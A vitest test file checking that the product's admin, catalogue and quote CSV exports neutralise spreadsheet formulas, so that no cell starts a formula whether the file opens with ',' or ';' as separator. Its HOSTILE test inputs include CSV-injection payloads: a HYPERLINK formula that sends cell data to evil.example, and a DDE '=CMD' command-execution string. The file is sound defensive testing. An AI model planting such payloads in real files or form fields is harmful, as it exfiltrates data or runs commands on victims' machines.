import { describe, expect, it } from 'vitest';
import { toCsv } from '#admin/lib/csv.ts';
import { quotesCsv } from '#admin/features/quotes/quotes-csv.ts';
import type { QuoteSummary } from '#shared/quote/admin.ts';
import { restoreFormulaText } from '#server/services/catalogue-io/cells.ts';
import { readRows, writeCsv } from '#server/services/catalogue-io/files.ts';

/*
 * Every CSV the product writes (the catalogue export on the server, the admin's browser-made files)
 * opened as a spreadsheet opens it: an English Excel splits lines at `,`, an Indonesian one at `;`
 * (its list separator) whatever the file's own separator. Either way no cell may start a formula.
 */

/** A line split as a spreadsheet does: a field that opens with a quote runs to its closing quote; others to the next separator. */
function spreadsheetFields(line: string, separator: string): string[] {
  const fields: string[] = [];
  let index = 0;
  while (index <= line.length) {
    let field = '';
    if (line[index] === '"') {
      index++;
      while (index < line.length && !(line[index] === '"' && line[index + 1] !== '"')) {
        field += line[index] === '"' ? '"' : line[index];
        index += line[index] === '"' ? 2 : 1;
      }
      index++;
      const end = line.indexOf(separator, index);
      field += line.slice(index, end === -1 ? line.length : end);
      index = end === -1 ? line.length + 1 : end + 1;
    } else {
      const end = line.indexOf(separator, index);
      field = line.slice(index, end === -1 ? line.length : end);
      index = end === -1 ? line.length + 1 : end + 1;
    }
    fields.push(field);
  }
  return fields;
}

const FORMULA = /^[=+\-@]/;

const HOSTILE = [
  'Budi;=HYPERLINK("http://evil.example/?x="&A1;"klik");',
  '=1+1',
  'Lab;+62 812',
  'a;-5',
  'x;@SUM(A1)',
  'Jl. Merdeka, 10;=CMD|"/c calc"!A1',
  'line\nbreak;=2',
  'tab\t=3',
  'plain; text, here',
];

/** Each line of a CSV text, without its byte-order mark (no cell here holds a line break that matters to the check). */
const lines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');

function expectNoFormula(csv: string) {
  for (const separator of [',', ';']) {
    for (const line of lines(csv)) {
      for (const field of spreadsheetFields(line, separator))
        expect(field, `${separator} ${line}`).not.toMatch(FORMULA);
    }
  }
}

describe('no CSV the product writes holds a formula, whichever separator opens it', () => {
  it.each(HOSTILE)('the admin CSV with %j', (text) => {
    expectNoFormula(
      toCsv([
        ['No', 'Nama', 'Kota'],
        [1, text, 'Bandung'],
      ]),
    );
  });

  it.each(HOSTILE)('the catalogue export with %j', (text) => {
    expectNoFormula(
      writeCsv([
        ['sku', 'name', 'price'],
        ['RL-1', text, 1_000_000],
      ]),
    );
  });

  it('a quote request named Budi;=HYPERLINK(…); in the quotes export', () => {
    const csv = quotesCsv([
      {
        reference: 'RL-2611-0001',
        created_at: '2026-11-23T03:00:00.000Z',
        name: 'Budi;=HYPERLINK("http://evil.example");',
        institution: 'Lab',
        phone: '',
        city: 'Bandung',
        items: 1,
        total: 0,
        flagged: 0,
        status: 'baru',
        history: [],
      } as unknown as QuoteSummary,
    ]);
    expect(csv).toContain('"Budi;\'=HYPERLINK(""http://evil.example"");"');
    expectNoFormula(csv);
  });
});

describe('the catalogue export reads back as written', () => {
  it.each(HOSTILE)('%j', async (text) => {
    const [header, row] = await readRows(
      new TextEncoder().encode(
        writeCsv([
          ['sku', 'name'],
          ['RL-1', text],
        ]),
      ),
    );
    expect(header).toEqual(['sku', 'name']);
    expect(restoreFormulaText(String(row![1]))).toBe(text);
  });
});
